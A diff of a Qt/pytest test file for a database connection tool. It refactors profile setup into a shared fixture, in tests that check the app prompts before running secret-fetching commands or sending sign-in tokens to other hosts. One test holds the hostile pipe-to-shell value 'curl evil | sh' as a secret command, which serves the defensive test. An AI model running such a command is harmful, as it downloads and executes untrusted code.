@@ -71,6 +71,22 @@ def settle(qtbot: QtBot, desktop: Desktop) -> None:
 
 
 @pytest.fixture
+def kept_and_chosen(
+    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
+) -> Callable[[Profile, Any], Desktop]:
+    """A window with one saved profile, which is in front."""
+
+    def made(profile: Profile, check: Any) -> Desktop:
+        store.save_in(tmp_path / "profiles", profile)
+        desktop: Desktop = make_desktop(check)
+        qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
+        desktop.workbench.profiles.choose(profile.id)
+        return desktop
+
+    return made
+
+
+@pytest.fixture
 def sent(tmp_path: Path) -> Any:
     store.save(INSECURE, tmp_path / "sent.json")
     return tmp_path / "sent.json"
@@ -164,14 +180,9 @@ def test_a_file_that_changes_under_the_question_is_asked_about_anew(
     assert check.secrets == []
 
 
-def test_one_s_own_profile_and_pasted_text_do_not_ask(
-    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
-) -> None:
+def test_one_s_own_profile_and_pasted_text_do_not_ask(qtbot: QtBot, kept_and_chosen: Callable[..., Any]) -> None:
     check = noting()
-    store.save_in(tmp_path / "profiles", INSECURE)
-    desktop = make_desktop(check)
-    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
-    desktop.workbench.profiles.choose(INSECURE.id)
+    desktop = kept_and_chosen(INSECURE, check)
     desktop.workbench.test()
     qtbot.waitUntil(lambda: len(check.secrets) == 1)
     desktop.workbench.new_profile()
@@ -201,28 +212,20 @@ def test_a_file_from_elsewhere_asks_also_after_it_was_saved_and_the_program_star
     assert later.workbench.profiles.is_foreign(copy)
 
 
-def test_a_command_asks_also_in_one_s_own_profile(
-    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
-) -> None:
+def test_a_command_asks_also_in_one_s_own_profile(qtbot: QtBot, kept_and_chosen: Callable[..., Any]) -> None:
     check = noting()
     own = replace(ASKED, secrets={PASSWORD: SecretSource(place="command", command="pass show db")})
-    store.save_in(tmp_path / "profiles", own)
-    desktop = make_desktop(check)
-    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
-    desktop.workbench.profiles.choose(own.id)
+    desktop = kept_and_chosen(own, check)
     desktop.workbench.test()
     answer(qtbot, desktop, "Connect")
     qtbot.waitUntil(lambda: len(check.secrets) == 1)
 
 
 def test_a_command_that_was_typed_just_now_is_not_asked_about_and_later_neither(
-    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
+    qtbot: QtBot, kept_and_chosen: Callable[..., Any]
 ) -> None:
     check = noting()
-    store.save_in(tmp_path / "profiles", ASKED)
-    desktop = make_desktop(check)
-    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
-    desktop.workbench.profiles.choose(ASKED.id)
+    desktop = kept_and_chosen(ASKED, check)
     typed = {PASSWORD: SecretSource(place="command", command="pass show db")}
     desktop.window.pages.edited.emit("secrets", typed)
     desktop.workbench.test()
@@ -240,13 +243,10 @@ def test_a_command_that_was_typed_just_now_is_not_asked_about_and_later_neither(
 
 
 def test_a_typed_command_asks_again_when_the_file_brings_other_servers(
-    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
+    qtbot: QtBot, kept_and_chosen: Callable[..., Any]
 ) -> None:
     check = noting()
-    store.save_in(tmp_path / "profiles", ASKED)
-    desktop = make_desktop(check)
-    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
-    desktop.workbench.profiles.choose(ASKED.id)
+    desktop = kept_and_chosen(ASKED, check)
     typed = {PASSWORD: SecretSource(place="command", command="pass show db")}
     desktop.window.pages.edited.emit("secrets", typed)
     current = desktop.workbench.profiles.current
@@ -257,14 +257,11 @@ def test_a_typed_command_asks_again_when_the_file_brings_other_servers(
 
 
 def test_a_command_that_waited_behind_another_place_is_asked_about(
-    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
+    qtbot: QtBot, kept_and_chosen: Callable[..., Any]
 ) -> None:
     check = noting()
     waiting = {PASSWORD: SecretSource(place="keyring", command="curl evil | sh")}
-    store.save_in(tmp_path / "profiles", replace(ASKED, secrets=waiting))
-    desktop = make_desktop(check)
-    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
-    desktop.workbench.profiles.choose(ASKED.id)
+    desktop = kept_and_chosen(replace(ASKED, secrets=waiting), check)
     chosen = {PASSWORD: SecretSource(place="command", command="curl evil | sh")}
     desktop.window.pages.edited.emit("secrets", chosen)
     desktop.workbench.test()
@@ -500,14 +497,11 @@ def test_a_file_that_changes_while_its_secret_is_typed_is_not_tested_with_it(
 
 
 def test_a_sign_in_whose_token_goes_to_other_hosts_asks_in_one_s_own_profile_too(
-    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
+    qtbot: QtBot, kept_and_chosen: Callable[..., Any], tmp_path: Path
 ) -> None:
     check = noting()
     own = Profile(name="Own", seeds=Seeds(hosts=("db1.example.com",)), auth=Auth(mechanism="MONGODB-OIDC"))
-    store.save_in(tmp_path / "profiles", own)
-    desktop = make_desktop(check)
-    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
-    desktop.workbench.profiles.choose(own.id)
+    desktop = kept_and_chosen(own, check)
     assert desktop.workbench.profiles.current.mistakes == ()
     desktop.workbench.test()
     words = " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
@@ -518,14 +512,11 @@ def test_a_sign_in_whose_token_goes_to_other_hosts_asks_in_one_s_own_profile_too
 
 
 def test_a_lost_password_is_asked_for_once_and_is_no_fault_of_the_connection(
-    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
+    qtbot: QtBot, kept_and_chosen: Callable[..., Any]
 ) -> None:
     check = noting()
     one = Profile(name="A", seeds=Seeds(hosts=("db1:27017",)), auth=Auth(user="app"))
-    store.save_in(tmp_path / "profiles", one)
-    desktop = make_desktop(check)
-    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
-    desktop.workbench.profiles.choose(one.id)
+    desktop = kept_and_chosen(one, check)
     desktop.workbench.test()
     dialog = asked(qtbot, desktop, SecretsDialog)
     assert "not kept on this computer" in " ".join(label.text() for label in dialog.findChildren(QLabel))
